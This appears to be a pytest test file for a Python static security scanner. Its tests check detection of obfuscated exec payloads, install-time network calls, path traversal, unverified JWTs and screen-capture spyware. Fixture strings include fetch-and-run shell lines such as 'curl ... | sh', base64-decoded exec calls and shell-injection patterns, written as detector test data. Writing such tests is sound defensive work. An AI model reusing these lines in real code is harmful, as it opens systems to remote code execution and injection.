import base64
from textwrap import dedent

import pytest

from scanner.analyzers.base import Confidence, Severity
from scanner.analyzers.python import PythonAnalyzer


def rules(folder):
    return {finding.rule for finding in PythonAnalyzer().analyze(folder)}


def test_a_setup_file_that_fetches_is_found_and_an_app_that_fetches_is_not(tree):
    fetching = "import requests\n\nrequests.get('https://files.invalid/x', timeout=5)\n"

    at_install = rules(tree({"setup.py": fetching}))
    at_run_time = rules(tree({"setup.py": "", "client.py": fetching}))

    assert at_install == {"python.install-network"}
    assert at_run_time == set()


def test_a_name_hidden_behind_an_alias_is_seen_through(tree):
    folder = tree(
        {"app.py": "import os as o\n\ngo = o.system\ngo('curl https://x.invalid/a | sh')\n"}
    )

    assert rules(folder) == {"python.shell-download"}


def test_code_hidden_in_several_layers_is_seen_through(tree):
    inner = base64.b64encode(b"import os").decode()
    code = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({inner!r}[::-1])))\n"

    assert "python.exec-decoded" in rules(tree({"app.py": code}))


def test_an_unbalanced_quote_does_not_hide_anything(tree):
    code = "_q = '\"\"\"'\nimport base64\nexec(base64.b64decode('eA=='))\n"

    assert "python.exec-decoded" in rules(tree({"app.py": code}))


def test_a_comment_cannot_switch_a_rule_off(tree):
    code = "import yaml\n\nyaml.load(open('x'), Loader=yaml.Loader)  # nosec\n"

    assert rules(tree({"app.py": code})) == {"python.yaml-load"}


def test_weaknesses_in_tests_are_toned_down_and_malicious_code_is_not(tree):
    weak = "import subprocess\n\n\ndef go(name):\n    subprocess.run('rm ' + name, shell=True)\n"
    bad = "import base64\n\nexec(base64.b64decode('eA=='))\n"

    findings = list(PythonAnalyzer().analyze(tree({"tests/a.py": weak, "tests/b.py": bad})))

    assert {(f.rule, f.severity) for f in findings} == {
        ("python.shell", Severity.INFO),
        ("python.exec-decoded", Severity.CRITICAL),
    }


def test_a_file_that_cannot_be_read_does_not_keep_the_others_from_being_read(tree):
    deep = "x = " + "(" * 5000 + ")" * 5000
    wide = "x = " + " + ".join(["'a'"] * 20_000)
    files = {"deep.py": deep, "wide.py": wide, "words.py": "no Python at all\n", "zero.py": "a\0b"}
    files["bad.py"] = "import base64\nexec(base64.b64decode('eA=='))\n"

    findings = list(PythonAnalyzer().analyze(tree(files)))

    unread = {f.path for f in findings if f.rule == "engine.unreadable"}
    assert unread >= {"deep.py", "words.py", "zero.py"}
    assert "python.exec-decoded" in {f.rule for f in findings if f.path == "bad.py"}


def test_constants_that_double_each_other_take_no_time(tree):
    lines = ["a0 = 'x' * 1"] + [f"a{n} = a{n - 1} + a{n - 1} + 'y'" for n in range(1, 60)]
    code = "import os\n" + "\n".join(lines) + "\nos.system(a59)\n"

    assert rules(tree({"app.py": code})) == {"python.shell"}


def test_evidence_is_short_and_without_passwords(tree):
    secret = "hunter" + "22222"
    padding = "x" * 500
    code = (
        f"import os\nos.system('curl https://x.invalid | sh', password='{secret}')  # {padding}\n"
    )

    (finding,) = PythonAnalyzer().analyze(tree({"app.py": code}))

    assert len(finding.evidence) <= 200
    assert secret not in finding.evidence


def test_a_generators_template_is_read_as_it_will_be(tree):
    template = "from {{ cookiecutter.name }}.models import Base\n\nexec(input())\n"
    broken = template.replace("{{", "{ {")

    assert "engine.unreadable" in rules(tree({"a/main.py": broken}))
    assert "engine.unreadable" not in rules(tree({"a/main.py": template}))


OTHER_YEARS = {
    "two.py": """
        print "starting", name
        print >>log, "%s" % (
            name)
        try:
            exec code in scope
        except (IOError, OSError), error:
            raise ValueError, "no %s" % error
        mode = 0755 | 10L
        """,
    "tabs.py": "if a:\n        b = 1\n\tc = 2\n",
    "twelve.py": """
        type Names[T] = list[T]
        def first[T: int](names: Names[T]) -> T:
            return f"{names["a"]} and {", ".join(names)}"
        """,
}


@pytest.mark.parametrize("name", OTHER_YEARS)
def test_python_of_other_years_is_read(tree, name):
    code = dedent(OTHER_YEARS[name]) + "\nimport base64\nexec(base64.b64decode('eA=='))\n"

    assert rules(tree({name: code})) - {"python.exec"} == {"python.exec-decoded"}


def test_the_name_of_an_uploaded_file_is_its_last_part_in_django(tree):
    view = (
        "from django.http import HttpResponse\n\n\ndef upload(request):\n    sent = {}\n"
        "    with open('files/' + sent, 'wb') as file:\n        file.write(b'x')\n"
    )

    uploaded = rules(tree({"views.py": view.format("request.FILES['file'].name")}))
    chosen = rules(tree({"views.py": view.format("request.POST['name']")}))

    assert "python.path-traversal" not in uploaded
    assert "python.path-traversal" in chosen


def test_what_is_put_into_a_queue_is_not_sent(tree):
    code = "import mss\n\n\ndef grab({}):\n    with mss.mss() as screen:\n"
    code += "        {}.put({}screen.grab(screen.monitors[0]))\n"

    assert "python.spyware" not in rules(tree({"a.py": code.format("queue", "queue", "")}))
    network = "import requests\n" + code.format("url", "requests", "url, data=")
    assert "python.spyware" in rules(tree({"a.py": network}))


def test_debugging_that_another_program_serves_is_doubted(tree):
    code = "from flask import Flask\n\napp = Flask(__name__)\napp.debug = True\n"

    def confidence_of(text):
        found = PythonAnalyzer().analyze(tree({"app.py": text}))
        return [each.confidence for each in found if each.rule == "python.debug-setting"]

    assert confidence_of(code) == [Confidence.LOW]
    assert confidence_of(f"{code}app.run()\n") == [Confidence.HIGH]


@pytest.mark.parametrize(
    ("address", "is_weak"),
    [
        (r"re_path(r'^play/(?P<name>.+)$', play)", True),
        (r"re_path(r'^play/(?P<name>[\w./-]+)$', play)", True),
        ("path('play/<str:name>', play)", True),
        (r"re_path(r'^play/(?P<name>\w+)$', play)", False),
        (r"re_path(r'^play/(?P<name>[-\w]{1,40})$', play)", False),
        ("path('play/<slug:name>', play)", False),
    ],
)
def test_what_an_address_lets_through_decides_where_a_name_can_lead(tree, address, is_weak):
    view = "from django.http import FileResponse\n\ndef play(request, name):\n"
    view += "    return FileResponse(open('sounds/' + name, 'rb'))\n"

    folder = tree({"views.py": view, "urls.py": f"urlpatterns = [{address}]\n"})

    assert ("python.path-traversal" in rules(folder)) is is_weak


@pytest.mark.parametrize(
    ("rest", "confidence"),
    [
        ("    return seen", Confidence.MEDIUM),
        ("    return jwt.decode(token, KEYS[seen['iss']])", Confidence.LOW),
        (
            "    return jwt.decode(other, KEYS[seen['iss']], algorithms=['ES256'])",
            Confidence.MEDIUM,
        ),
        ("\n\ndef check(token):\n    return jwt.decode(token, KEY)", Confidence.MEDIUM),
    ],
)
def test_a_token_may_be_looked_into_before_it_is_checked(tree, rest, confidence):
    code = "import jwt\n\n\ndef read(token, other):\n"
    code += "    seen = jwt.decode(token, options={'verify_signature': False})\n"

    (finding,) = PythonAnalyzer().analyze(tree({"app.py": f"{code}{rest}\n"}))

    assert (finding.rule, finding.confidence) == ("python.unverified-token", confidence)
